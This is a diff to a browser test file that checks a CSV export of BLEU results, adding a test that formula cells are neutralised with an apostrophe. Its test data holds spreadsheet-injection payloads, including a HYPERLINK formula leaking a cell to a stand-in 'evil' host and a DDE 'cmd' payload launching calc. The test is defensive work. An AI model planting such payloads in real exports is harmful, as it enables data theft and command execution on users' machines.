@@ -164,9 +164,34 @@ def test_a_table_is_downloaded_as_csv(opened: Opened) -> None:
     assert started.value.suggested_filename == "bleu-on-40-test-sentences.csv"
     heading, *rows = csv.reader(started.value.path().read_text().splitlines())
     assert heading[:4] == ["system", "dev BLEU", "test BLEU", "text s.d."]
-    assert [row[0] for row in rows] == ["Baseline", "+RNN <b>&\"'</b>"]
+    assert [row[0] for row in rows] == ["Baseline", "'+RNN <b>&\"'</b>"]
     assert float(rows[1][2]) > 0
     assert len({len(row) for row in (heading, *rows)}) == 1
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil/?"&A2,"click")',
+            '"\'=HYPERLINK(""http://evil/?""&A2,""click"")"',
+        ),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+0.20..+0.95", "'+0.20..+0.95"),
+        ("-0.25", "-0.25"),
+        ("+1e-3", "+1e-3"),
+        ("a-b", "a-b"),
+        ("a\rb", '"a\rb"'),
+    ],
+)
+def test_no_cell_of_the_csv_is_a_formula(opened: Opened, cell: str, written: str) -> None:
+    make = """text => {
+      const table = document.createElement("table");
+      table.insertRow().insertCell().dataset.value = text;
+      return asCsv(table);
+    }"""
+    assert opened.page.evaluate(make, cell) == f"{written}\n"
 
 
 def test_the_page_is_dark_where_the_reader_wants_it(browser: Browser, report: Path) -> None:
